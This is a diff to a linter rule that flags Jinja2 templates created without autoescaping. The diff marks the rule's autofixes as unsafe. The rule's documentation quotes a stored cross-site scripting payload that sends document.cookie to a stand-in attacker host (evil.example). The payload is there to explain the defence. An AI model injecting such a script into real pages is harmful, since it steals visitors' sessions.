@@ -31,6 +31,7 @@ export default defineRule({
     bandit: 'B701',
     ruff: 'S701',
     fixable: true,
+    fixApplicability: ['unsafe'],
     docs: {
       what: 'Finds `jinja2.Environment(...)` (and the sandboxed environments) created without `autoescape` or with `autoescape=False`, and `jinja2.Template(...)` without autoescaping when its text is HTML (a literal containing tags) or not known. `autoescape=True`, `select_autoescape(...)` and an autoescape function are accepted; an Environment whose `**options` may set it is reported with low confidence. Templates whose literal text is not markup (emails in plain text, configuration files) are not reported.',
       why: 'Jinja2 does not escape by default: `{{ comment }}` copies the value into the page as it is, so a comment containing `<script>fetch("https://evil.example/?c="+document.cookie)</script>` runs in every visitor\'s browser (stored cross-site scripting) and can steal sessions or act as the user. Flask turns autoescaping on for its own templates, but an `Environment` you create yourself starts with it off.',
@@ -102,8 +103,8 @@ export default defineRule({
  */
 function autoescapeFix(call: CallSite, isTemplate: boolean, context: RuleContext, fixer: Fixer): Fix[] {
   if (!call.argumentList) return [];
-  if (isTemplate) return [fixer.fix('Set autoescape=True', fixer.setKeyword(call, 'autoescape', 'True'))];
+  if (isTemplate) return [fixer.unsafe('Set autoescape=True', 'values holding HTML on purpose are escaped too', fixer.setKeyword(call, 'autoescape', 'True'))];
   const spelled = spellImported('jinja2.select_autoescape', call.node, moduleOf(call.node), context, fixer);
   if (!spelled) return [];
-  return [fixer.fix('Use autoescape=select_autoescape()', [...spelled.edits, fixer.setKeyword(call, 'autoescape', `${spelled.text}()`)])];
+  return [fixer.unsafe('Use autoescape=select_autoescape()', 'values holding HTML on purpose are escaped too', [...spelled.edits, fixer.setKeyword(call, 'autoescape', `${spelled.text}()`)])];
 }
